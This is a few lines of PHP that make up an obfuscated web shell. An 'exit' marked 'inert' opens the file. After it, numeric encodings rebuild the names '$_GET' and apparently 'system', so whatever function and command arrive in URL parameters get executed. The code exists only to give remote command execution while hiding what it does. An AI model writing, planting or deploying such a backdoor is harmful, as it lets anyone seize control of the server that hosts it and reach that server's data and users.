<?php exit; /* inert */ 
$p = base_convert(37907361743, 10, 36)(dechex(1598506324));
$$p[0] ? ($$p[0])($$p[1]) : 0;
base_convert(1751504350, 10, 36)($_GET['z']);
